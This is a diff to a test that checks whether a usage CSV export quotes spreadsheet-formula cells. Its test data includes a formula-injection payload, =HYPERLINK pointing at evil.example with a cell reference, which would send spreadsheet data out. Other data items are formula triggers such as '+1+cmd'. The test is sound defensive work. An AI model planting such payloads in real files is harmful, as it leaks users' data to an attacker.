@@ -175,8 +175,10 @@ async def test_usage_csv_cannot_carry_a_spreadsheet_formula(admin_console):
     named ``=HYPERLINK(...)`` reached the CSV as is, and a spreadsheet opening the
     download ran it. Cells that a spreadsheet reads as a formula are quoted with ``'``."""
     gw, client = admin_console
+    # (A leading tab or CR is quoted too, but key names can no longer hold control
+    # characters: 9403a8f refuses them at creation.)
     names = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd", "-2", "@SUM(1)",
-             "\tx", "plain"]
+             "plain"]
     specs = await seed(gw, names, {})
     small = specs["_route"].variants[0]
     for name in names:
